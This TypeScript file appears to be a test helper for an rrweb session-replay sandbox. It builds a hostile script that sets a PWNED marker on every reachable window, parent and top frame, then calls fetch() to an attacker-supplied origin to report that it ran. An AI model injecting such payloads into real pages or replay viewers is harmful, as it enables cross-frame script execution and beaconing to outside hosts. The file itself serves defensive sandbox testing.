/** Where a hostile recording wants to reach, and how far it goes. */
export type Hostility = {
  /** Origin of the attacker's server. */
  attacker: string;
  /** Whether it also holds what makes an unguarded rrweb throw, or lose the styles. */
  breaksRrweb: boolean;
};

/** A script that marks every window it can reach, and tells the attacker. */
export function hostileScript(name: string, attacker: string): string {
  const mark = (target: string) => `try{${target}.PWNED=(${target}.PWNED||'')+'${name} '}catch(e){}`;
  const marks = ['window', 'parent', 'parent.parent', 'top'].map(mark).join(';');
  return `${marks};try{fetch('${attacker}/ran-${name}')}catch(e){}`;
}
